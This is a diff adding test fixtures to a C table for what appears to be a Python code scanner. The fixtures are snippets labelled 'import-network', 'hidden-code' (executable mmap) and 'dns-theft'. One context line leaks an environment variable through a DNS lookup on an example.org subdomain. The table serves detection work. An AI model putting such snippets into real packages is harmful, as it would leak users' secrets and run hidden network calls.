@@ -295,6 +295,16 @@ const struct source_row source_rows[] = {
     {P_IMPORT, NULL,
      "import requests\n_send = requests.Session.send\ndef send(self, r, **kw):\n    log(r)\n"
      "    return _send(self, r, **kw)\nrequests.Session.send = send\n"},
+    {P_IMPORT, NULL,
+     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ == '__main__' and f()\n"},
+    {P_IMPORT, "import-network",
+     "import requests\ndef f():\n    requests.get('http://example.org/')\n__name__ and f()\n"},
+    /* machine code */
+    {P_IMPORT, "hidden-code",
+     "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)\n"},
+    {P_IMPORT, NULL, "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_READ)\n"},
+    {P_IMPORT, NULL,
+     "import mmap\ndef f():\n    return mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n"},
     /* names made of local data */
     {P_IMPORT, "dns-theft", "import os, socket\ndef f():\n    socket.gethostbyname_ex(os.environ['A'] + '.x.example.org')\n"},
     {P_IMPORT, NULL, "import os, socket\ndef f():\n    return socket.gethostbyname(os.environ['MASTER_ADDR'])\n"},
